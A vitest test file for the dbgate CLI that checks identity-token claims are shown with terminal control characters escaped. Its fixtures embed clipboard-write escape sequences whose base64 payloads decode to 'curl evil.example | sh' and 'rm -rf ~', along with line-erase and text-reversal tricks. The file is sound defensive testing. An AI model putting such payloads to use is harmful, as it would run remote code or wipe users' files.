import {writeFile} from 'node:fs/promises'
import path from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {run} from '../helpers/run.js'
import {fixture, loginAs, type Fixture} from './helpers.js'

const BIN = path.resolve('bin/run.js')

/**
 * The name, e-mail and groups dbgate prints come from the IdP's token, and a person may often set
 * their own display name there. Escape sequences in them (a clipboard write, an erased line,
 * reversed text) must reach the terminal as text.
 */
describe('claims shown by whoami and connect', () => {
  let f: Fixture
  let config: string
  const hostileName = 'Eve\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\r\u202eAdmin'
  const dbgate = (args: string[]) => run('node', [BIN, args[0]!, '--config', config, ...args.slice(1)], {env: {...f.env, DBGATE_TOKEN: '', DBGATE_CLIENT_ID: '', DBGATE_CLIENT_SECRET: '', DBGATE_CONFIG: ''}})

  beforeAll(async () => {
    f = await fixture({users: [{id: 'eve', password: 'eve', email: 'eve@example.com', name: hostileName, groups: ['engineering', 'eng\x1b[8mhidden']}]})
    config = path.join(f.dir, 'dbgate.yaml')
    await writeFile(config, `identity:\n  issuer: ${f.dev.issuer}\n  clientId: ${f.dev.cliClientId}\ntargets:\n  prod:\n    host: 127.0.0.1\n    port: 1\n    database: app\n    user: app\n    allow: [dba]\n    connectTimeout: 1s\n`)
    await loginAs(f, {user: 'eve'})
  })
  afterAll(async () => {
    await f?.close()
  })

  it('prints them with controls as escapes, in every form', async () => {
    for (const args of [['whoami'], ['whoami', '--json'], ['connect', 'prod', '--', 'true']]) {
      const r = await dbgate(args)
      const out = r.stdout + r.stderr
      expect(out, args.join(' ')).toContain(args[0] === 'whoami' ? 'Eve' : 'eng\\x1b[8mhidden')
      for (const raw of ['\x1b', '\x07', '\r', '\u202e']) expect(out, `${args.join(' ')}: ${JSON.stringify(raw)} reached the terminal`).not.toContain(raw)
    }
  })
})

/**
 * `policy publish` names who published, from the same token: an e-mail the IdP vouches for is still
 * text its user (or the IdP) chose, and printed raw it could rewrite the confirmation line.
 */
describe('the publisher policy publish names', () => {
  let f: Fixture
  let config: string
  const hostileEmail = 'mallory\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\r\u009b1A\u202e@example.com'

  beforeAll(async () => {
    f = await fixture({users: [{id: 'mallory', password: 'mallory', email: hostileEmail, name: 'Mallory', groups: ['dba']}]})
    config = path.join(f.dir, 'dbgate.yaml')
    await writeFile(
      config,
      `identity:\n  issuer: ${f.dev.issuer}\n  clientId: ${f.dev.cliClientId}\nbucket: file://${path.join(f.dir, 'bucket')}\ntargets:\n  prod:\n    host: 127.0.0.1\n    port: 1\n    database: app\n    user: app\n`,
    )
    await loginAs(f, {user: 'mallory'})
  })
  afterAll(async () => {
    await f?.close()
  })

  it('prints it with controls as escapes', async () => {
    const r = await run('node', [BIN, 'policy', 'publish', 'prod', '--config', config], {env: {...f.env, DBGATE_TOKEN: '', DBGATE_CLIENT_ID: '', DBGATE_CLIENT_SECRET: '', DBGATE_CONFIG: ''}})
    expect(r.stderr).toBe('')
    expect(r.stdout).toMatch(/^published prod v1 \(sha256 [0-9a-f]{12}…\) as mallory\\x1b\]52;c;cm0gLXJmIH4=\\x07\\x1b\[2K\\x0d\\x9b1A\\u202e@example\.com\n$/)
    for (const raw of ['\x1b', '\x07', '\r', '\u009b', '\u202e']) expect(r.stdout, `${JSON.stringify(raw)} reached the terminal`).not.toContain(raw)
  })
})

/** `approvals list` of someone who reviews nothing names them and their groups, from the same token. */
describe('the person approvals list says is not a reviewer', () => {
  let f: Fixture
  let config: string
  const hostileEmail = 'trent\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\r@example.com'
  const hostileGroup = 'eng\u009b1A\u202e\u200bdba'

  beforeAll(async () => {
    f = await fixture({users: [{id: 'trent', password: 'trent', email: hostileEmail, name: 'Trent', groups: [hostileGroup]}]})
    config = path.join(f.dir, 'dbgate.yaml')
    await writeFile(
      config,
      `identity:\n  issuer: ${f.dev.issuer}\n  clientId: ${f.dev.cliClientId}\nbucket: file://${path.join(f.dir, 'bucket')}\ntargets:\n  prod:\n    host: 127.0.0.1\n    port: 1\n    database: app\n    user: app\n    reviewers: [dba]\n`,
    )
    await loginAs(f, {user: 'trent'})
  })
  afterAll(async () => {
    await f?.close()
  })

  it('prints their name and groups with controls as escapes', async () => {
    const r = await run('node', [BIN, 'approvals', 'list', '--config', config], {env: {...f.env, DBGATE_TOKEN: '', DBGATE_CLIENT_ID: '', DBGATE_CLIENT_SECRET: '', DBGATE_CONFIG: ''}})
    expect(r.stderr).toContain('trent\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2K\\x0d@example.com (groups: eng\\x9b1A\\u202e\\u200bdba) is not in the reviewer groups of any target (prod: dba)')
    for (const raw of ['\x1b', '\x07', '\r', '\u009b', '\u202e', '\u200b']) expect(r.stdout + r.stderr, `${JSON.stringify(raw)} reached the terminal`).not.toContain(raw)
  })
})
